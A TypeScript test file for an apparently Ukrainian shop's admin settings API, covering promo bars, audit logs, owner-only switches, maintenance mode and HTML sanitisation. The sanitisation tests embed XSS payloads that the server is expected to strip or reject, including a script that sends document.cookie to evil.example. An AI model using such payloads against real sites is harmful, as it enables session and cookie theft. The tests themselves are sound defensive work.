import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditLog } from '../../db/schema/staff.ts';
import { createStaffSession, staffCaller } from '../../testing/staff.ts';
import { createTestApp, type TestApp } from '../../testing/test-app.ts';
import type { StaffSettingsView } from '../../../common/admin-settings.ts';

// The site settings in the back office end to end: what an editor saves, the storefront shows.
let t: TestApp;
let editor: Awaited<ReturnType<typeof createStaffSession>>;
let call: ReturnType<typeof staffCaller>;

beforeAll(async () => {
  t = await createTestApp();
  editor = await createStaffSession(t.deps, { role: 'content_editor', locale: 'en' });
  call = staffCaller(t.app, editor.cookie);
});
afterAll(() => t.close());

async function stored(): Promise<StaffSettingsView> {
  const answer = await call('GET', '/api/admin/settings');
  expect(answer.status).toBe(200);
  return answer.body.data;
}

const storefront = async (lang: 'uk' | 'en') => (await t.post('/api/settings/all', { lang })).body.data;

describe('/api/admin/settings', () => {
  it('gives both languages and the shop-wide switches', async () => {
    const settings = await stored();
    expect(settings.site.uk.site_name).toBe('Табір');
    expect(settings.site.en.promo[0]).toMatchObject({ active: true, button_link: '/delivery-and-payment' });
    expect(settings.shop).toEqual({ maintenance: false, analytics: {}, notifications: {} });
  });

  it('saves the promo bar in each language, shown by the storefront at once, and audits only what changed', async () => {
    const settings = await stored();
    settings.site.uk.promo[0]!.promobar_text = 'Зимовий розпродаж: −20 % на спальники';
    settings.site.en.promo[0]!.promobar_text = 'Winter sale: 20% off sleeping bags';
    const saved = await call('PUT', '/api/admin/settings', settings);
    expect(saved.status).toBe(200);
    expect(saved.body.data.changed).toEqual(['site.uk', 'site.en']);
    expect((await storefront('uk')).promo[0].promobar_text).toBe('Зимовий розпродаж: −20 % на спальники');
    expect((await storefront('en')).promo[0].promobar_text).toBe('Winter sale: 20% off sleeping bags');

    const [entry] = await t.deps.db.select().from(auditLog).where(and(eq(auditLog.action, 'settings.site'), eq(auditLog.entityId, 'en')));
    expect(entry).toMatchObject({ staffId: editor.actor.id, after: { promo: [{ promobar_text: 'Winter sale: 20% off sleeping bags' }] } });
    expect(Object.keys(entry!.after as object)).toEqual(['promo']);

    const again = await call('PUT', '/api/admin/settings', settings);
    expect(again.body.data.changed).toEqual([]);
  });

  it('switches the promo bar off without losing its text', async () => {
    const settings = await stored();
    settings.site.en.promo[0]!.active = false;
    expect((await call('PUT', '/api/admin/settings', settings)).status).toBe(200);
    expect((await storefront('en')).promo[0]).toMatchObject({ active: false, promobar_text: 'Winter sale: 20% off sleeping bags' });
    expect((await storefront('uk')).promo[0].active).toBe(true);
  });

  it('sanitises the cookie notice: script is refused, formatting and links stay', async () => {
    const settings = await stored();
    settings.site.uk.cookie_text = '<p>Ми зберігаємо <strong>кошик</strong><script>fetch("https://evil.example/?c="+document.cookie)</script> <a href="/policy" onclick="steal()">політика</a></p>';
    const saved = await call('PUT', '/api/admin/settings', settings);
    expect(saved.body.data.settings.site.uk.cookie_text).toBe('<p>Ми зберігаємо <strong>кошик</strong> <a href="/policy">політика</a></p>');
    expect((await storefront('uk')).cookie_text).toBe('<p>Ми зберігаємо <strong>кошик</strong> <a href="/policy">політика</a></p>');
  });

  it('lets only the owner change the shop-wide switches and bank details', async () => {
    const settings = await stored();
    settings.shop = { maintenance: true, analytics: {}, notifications: {} };
    const refused = await call('PUT', '/api/admin/settings', settings);
    expect(refused.status).toBe(403);
    expect(refused.body.errors.message).toBe('Only the owner changes bank details, order notifications, analytics and maintenance.');
    const iban = await stored();
    iban.site.uk.requisites!.iban = 'UA000000000000000000000000000';
    expect((await call('PUT', '/api/admin/settings', iban)).status).toBe(403);
    expect((await stored()).site.uk.requisites!.iban).toBe('UA213223130000026007233566001');
  });

  it('sets the shop-wide switches: maintenance closes the storefront, ids and the order address are kept', async () => {
    const owner = await createStaffSession(t.deps, { role: 'owner', locale: 'en' });
    const ownerCall = staffCaller(t.app, owner.cookie);
    const settings = await stored();
    settings.shop = { maintenance: true, analytics: { gtm_id: 'GTM-TABIR12' }, notifications: { orders_email: 'orders@tabir.com.ua' } };
    const saved = await ownerCall('PUT', '/api/admin/settings', settings);
    expect(saved.body.data.changed).toEqual(['shop']);
    expect((await t.post('/api/settings/all', { lang: 'uk' })).status).toBe(503);
    // The back office stays open: the owner opens the shop again.
    settings.shop.maintenance = false;
    expect((await ownerCall('PUT', '/api/admin/settings', settings)).status).toBe(200);
    expect((await t.post('/api/settings/all', { lang: 'uk' })).status).toBe(200);
    expect((await stored()).shop).toEqual({ maintenance: false, analytics: { gtm_id: 'GTM-TABIR12' }, notifications: { orders_email: 'orders@tabir.com.ua' } });
    const entries = await t.deps.db.select().from(auditLog).where(eq(auditLog.action, 'settings.shop'));
    expect(entries.map((entry) => entry.after)).toEqual([{ maintenance: true, analytics: { gtm_id: 'GTM-TABIR12' }, notifications: { orders_email: 'orders@tabir.com.ua' } }, { maintenance: false }]);
  });

  it('refuses a cookie notice that is nothing but script once sanitised, at its field', async () => {
    const settings = await stored();
    settings.site.en.cookie_text = '<script>alert(1)</script><iframe src="https://evil.example"></iframe>';
    const refused = await call('PUT', '/api/admin/settings', settings);
    expect(refused.status).toBe(422);
    expect(refused.body.errors.params).toEqual({ 'site.en.cookie_text': ['Once scripts and styles are removed the text is empty: write it as plain paragraphs'] });
  });

  it('refuses bad values with messages at their fields, in the member’s language, and writes nothing', async () => {
    const settings = await stored();
    const before = JSON.stringify(settings);
    settings.site.uk.promo[0]!.button_link = 'javascript:alert(1)';
    settings.site.en.contacts[0]!.email = 'not-an-address';
    settings.site.en.contacts[0]!.phones[0]!.number = 'call us';
    settings.site.uk.cookie_button = '';
    (settings.shop.analytics as { ga4_id?: string }).ga4_id = 'UA-12345';
    const refused = await call('PUT', '/api/admin/settings', settings);
    expect(refused.status).toBe(422);
    expect(refused.body.errors.params).toEqual({
      'site.uk.promo.0.button_link': ['Give an address on the site starting with /, or a full http(s):// address'],
      'site.uk.cookie_button': ['Fill in the Button field'],
      'site.en.contacts.0.email': [expect.any(String)],
      'site.en.contacts.0.phones.0.number': ['A phone number: digits, spaces, brackets and hyphens, optionally starting with +'],
      'shop.analytics.ga4_id': ['A Google Analytics 4 id looks like G-ABCDE12345'],
    });
    expect(JSON.stringify(await stored())).toBe(before);
    const unknown = await call('PUT', '/api/admin/settings', { ...JSON.parse(before), extra: 1 });
    expect(unknown.status).toBe(422);
  });

  it('is closed to a manager', async () => {
    const manager = await createStaffSession(t.deps, { role: 'manager' });
    expect((await staffCaller(t.app, manager.cookie)('GET', '/api/admin/settings')).status).toBe(403);
  });
});
